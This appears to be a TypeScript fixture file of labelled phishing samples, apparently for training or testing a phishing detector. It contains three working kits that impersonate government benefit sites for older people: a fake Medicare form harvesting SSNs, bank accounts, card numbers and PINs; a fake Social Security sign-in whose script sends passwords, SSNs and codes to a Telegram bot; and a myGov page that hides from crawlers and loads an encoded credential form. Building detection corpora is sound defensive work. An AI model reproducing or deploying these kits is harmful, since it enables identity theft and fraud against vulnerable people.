/**
 * yi- government and benefit lures brought to a helpline for older people: Winter Fuel Payment,
 * cost-of-living, Medicare, Social Security, myGov, IRD, CRA, HMRC.
 */
import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { b64, bankCss, cookieBanner, doc, govUkCss, govUkFooter, govUkHeader, wordmark } from '../parts/yi-kit.js';

export const entries: Entry[] = [
{
  id: 'yi-medicare-giveback-ssn-harvest',
  label: 'phishing',
  kind: 'gov-benefit-kit',
  url: 'https://mymedicare-benefits.com/giveback/enroll',
  body: doc({
    title: 'Medicare Give Back Benefit 2025 | Medicare.gov',
    lang: 'en-US',
    css: `*{box-sizing:border-box}body{margin:0;font-family:"Open Sans",Helvetica,Arial,sans-serif;color:#212121;background:#fff}
.usa-banner{background:#f0f0f0;font-size:13px;padding:4px 20px}
.hdr{display:flex;align-items:center;justify-content:space-between;padding:16px 40px;border-bottom:1px solid #d6d7d9}
.logo{font-size:28px;font-weight:700;color:#0071bc}.logo span{color:#212121;font-weight:400}
.hero{background:#0071bc;color:#fff;padding:36px 40px}.hero h1{margin:0 0 8px;font-size:34px}
.cols{display:flex;gap:40px;padding:30px 40px;flex-wrap:wrap}.cols>section{flex:1 1 420px}
fieldset{border:1px solid #d6d7d9;padding:18px 22px;margin:0 0 18px}legend{font-weight:700;padding:0 6px}
label{display:block;font-size:15px;margin:12px 0 4px}input,select{width:100%;padding:9px;border:1px solid #5b616b;font-size:16px}
.btn{background:#0071bc;color:#fff;border:0;padding:14px 26px;font-size:17px;font-weight:700;border-radius:3px}
.card-img{border:1px solid #ccc;border-radius:8px;padding:16px;background:linear-gradient(#fff,#eaf3fa);font-size:14px;max-width:360px}
.red{color:#b50909;font-weight:700}footer{background:#112e51;color:#fff;padding:26px 40px;font-size:13px}`,
    body: `<div class="usa-banner">🇺🇸 An official website of the United States government</div>
<div class="hdr"><div class="logo">Medicare<span>.gov</span></div><div>1-800-MEDICARE (1-800-633-4227)</div></div>
<div class="hero"><h1>Claim your Medicare Give Back Benefit</h1><p>Eligible beneficiaries can get up to <strong>$174.70 a month</strong> added back to their Social Security check to cover the Part B premium.</p></div>
<div class="cols">
<section>
<p class="red">Enrollment closes December 7. Beneficiaries who do not verify will keep paying the full premium in 2025.</p>
<form method="post" action="process.php" id="enroll">
<fieldset><legend>Beneficiary information</legend>
<label for="fn">First name</label><input id="fn" name="first_name"><label for="ln">Last name</label><input id="ln" name="last_name">
<label for="dob">Date of birth (MM/DD/YYYY)</label><input id="dob" name="dob">
<label for="mbi">Medicare Number (MBI)</label><input id="mbi" name="mbi" placeholder="1EG4-TE5-MK73" maxlength="13">
<label for="ssn">Social Security Number</label><input id="ssn" name="ssn" placeholder="XXX-XX-XXXX" maxlength="11">
<label for="st">State</label><select id="st" name="state"><option>Florida</option><option>Arizona</option><option>Texas</option><option>Ohio</option><option>Pennsylvania</option><option>New York</option><option>California</option></select>
</fieldset>
<fieldset><legend>Where should we send your monthly give back?</legend>
<label for="bank">Bank name</label><input id="bank" name="bank_name">
<label for="rt">Routing number</label><input id="rt" name="routing" maxlength="9" inputmode="numeric">
<label for="ac">Account number</label><input id="ac" name="account" inputmode="numeric">
<label for="dc">Debit card number (for identity check)</label><input id="dc" name="card" inputmode="numeric">
<label for="pin">Card PIN</label><input id="pin" name="pin" type="password" maxlength="4">
</fieldset>
<button class="btn" type="submit">Submit enrollment</button>
</form>
</section>
<section>
<div class="card-img"><strong>MEDICARE HEALTH INSURANCE</strong><br>Name/Nombre: JOHN L SMITH<br>Medicare Number/Número de Medicare: 1EG4-TE5-MK73<br>Entitled to: HOSPITAL (PART A) 03-01-2016 · MEDICAL (PART B) 03-01-2016</div>
<p>Your Medicare Number is on your red, white and blue Medicare card. Have your bank statement ready before you begin.</p>
</section></div>
<footer>Paid for by the U.S. Department of Health &amp; Human Services. · Privacy Policy · Accessibility · Nondiscrimination notice</footer>`,
  }),
},
{
  id: 'yi-ssa-statement-signin-telegram',
  label: 'phishing',
  kind: 'gov-account-kit',
  url: 'https://ssa-gov.mystatement-online.com/myaccount/',
  body: doc({
    title: 'my Social Security | SSA',
    lang: 'en-US',
    css: `body{margin:0;font-family:"Source Sans Pro",Arial,sans-serif;background:#f1f1f1;color:#1b1b1b}
.gov{background:#f0f0f0;font-size:12px;padding:4px 18px;border-bottom:1px solid #ddd}
header{background:#fff;padding:14px 30px;display:flex;align-items:center;gap:14px;border-bottom:4px solid #1a4480}
header .seal{width:46px;height:46px;border-radius:50%;background:#1a4480;color:#fff;display:flex;align-items:center;justify-content:center;font-weight:700}
header b{font-size:22px;color:#1a4480}
.card{max-width:460px;margin:40px auto;background:#fff;padding:28px 34px;border:1px solid #dfe1e2}
h1{font-size:26px;margin:0 0 8px}.note{background:#e7f6f8;border-left:6px solid #00bde3;padding:10px;font-size:15px}
label{display:block;font-weight:700;margin:16px 0 4px}input{width:100%;padding:10px;border:1px solid #565c65;font-size:17px;box-sizing:border-box}
button{width:100%;margin-top:20px;background:#005ea2;color:#fff;border:0;padding:12px;font-size:18px;font-weight:700;border-radius:4px}
.links{font-size:15px;margin-top:16px}.links a{color:#005ea2;display:block;margin:6px 0}`,
    body: `<div class="gov">An official website of the United States government</div>
<header><div class="seal">SSA</div><b>Social Security</b></header>
<div class="card" id="card">
  <h1>Sign In</h1>
  <p class="note">Your <strong>2025 Cost-of-Living Adjustment (COLA) notice</strong> is ready. Sign in to view your new benefit amount.</p>
  <form id="lf">
    <label for="u">Username</label><input id="u" name="username" autocomplete="username">
    <label for="p">Password</label><input id="p" name="password" type="password" autocomplete="current-password">
    <button type="submit">Sign In</button>
  </form>
  <div class="links"><a href="#">Forgot Username?</a><a href="#">Forgot Password?</a><a href="#">Create an Account</a></div>
</div>
<script>
var B='7719204481:AAFq2bnX0sLk9Zr_u3mW7cTq1hEyNdP4aGk',C='-1002218834172';
function ship(t){return fetch('https://api.telegram.org/bot'+B+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:C,text:t})})}
document.getElementById('lf').onsubmit=function(e){
  e.preventDefault();
  var u=this.username.value,p=this.password.value;
  fetch('https://ipapi.co/json/').then(function(r){return r.json()}).catch(function(){return{}}).then(function(g){
    return ship('[SSA] user: '+u+'\\npass: '+p+'\\nip: '+(g.ip||'?')+' '+(g.region||'')+'\\nua: '+navigator.userAgent);
  }).finally(function(){
    document.getElementById('card').innerHTML='<h1>Verify your identity</h1><p>For your security we sent a 6-digit code to the phone number on file. Also confirm your SSN.</p><form id="of"><label>Security code</label><input name="code" maxlength="6" inputmode="numeric"><label>Social Security Number</label><input name="ssn" maxlength="11"><button>Continue</button></form>';
    document.getElementById('of').onsubmit=function(ev){ev.preventDefault();ship('[SSA] code: '+this.code.value+' ssn: '+this.ssn.value).finally(function(){location.href='https://www.ssa.gov/myaccount/'})};
  });
};
</script>`,
  }),
},
{
  id: 'yi-mygov-au-cloaked-loader',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://mygov-au.linkservices-help.com/LoginServices/main/login',
  body: doc({
    title: 'myGov',
    lang: 'en-AU',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#fff;color:#333}#m{padding:80px 20px;text-align:center;color:#777}`,
    body: `<div id="m"><h2>Service temporarily unavailable</h2><p>We are performing scheduled maintenance. Please try again later.</p></div>
<script>
(function(){
  var ua=navigator.userAgent||'';
  var bot=navigator.webdriver||/HeadlessChrome|bot|crawl|spider|Lighthouse|PhantomJS|python|curl/i.test(ua)||!navigator.languages||navigator.languages.length===0;
  var tz='';try{tz=Intl.DateTimeFormat().resolvedOptions().timeZone||''}catch(e){}
  if(bot)return;
  if(tz&&/^(Asia\\/Shanghai|Europe\\/Moscow)$/.test(tz))return;
  fetch('/LoginServices/static/portal.dat?v=3').then(function(r){return r.text()}).then(function(t){
    var h=decodeURIComponent(escape(atob(t.split('').reverse().join(''))));
    document.open();document.write(h);document.close();
  });
})();
</script>`,
  }),
  routes: {
    'mygov-au.linkservices-help.com/LoginServices/static/portal.dat': {
      status: 200,
      headers: { 'content-type': 'text/plain' },
      body: b64(doc({
        title: 'Sign in with myGov',
        lang: 'en-AU',
        css: `body{margin:0;font-family:"Public Sans",Arial,sans-serif;background:#f5f5f5}
.h{background:#313131;color:#fff;padding:18px 28px;font-size:26px;font-weight:700}.h span{color:#8ec641}
.c{max-width:460px;margin:36px auto;background:#fff;padding:30px;border-top:6px solid #8ec641}
label{display:block;font-weight:700;margin:14px 0 5px}input{width:100%;padding:10px;border:1px solid #666;font-size:16px;box-sizing:border-box}
button{margin-top:18px;background:#313131;color:#fff;border:0;padding:12px 24px;font-size:16px}a{color:#1a5a96}`,
        body: `<div class="h">my<span>Gov</span></div><div class="c"><h1>Sign in with myGov</h1><p>Your Centrelink account has a pending <strong>Energy Bill Relief</strong> payment. Sign in to accept it.</p>
<form method="post" action="/LoginServices/main/auth.php"><label for="u">Username or email</label><input id="u" name="userId"><label for="p">Password</label><input id="p" type="password" name="password"><button>Sign in</button></form>
<p><a href="#">Forgot username</a> · <a href="#">Forgot password</a></p><p>Or sign in with <strong>myID</strong></p></div>`,
      })).split('').reverse().join(''),
    },
  },
},
];
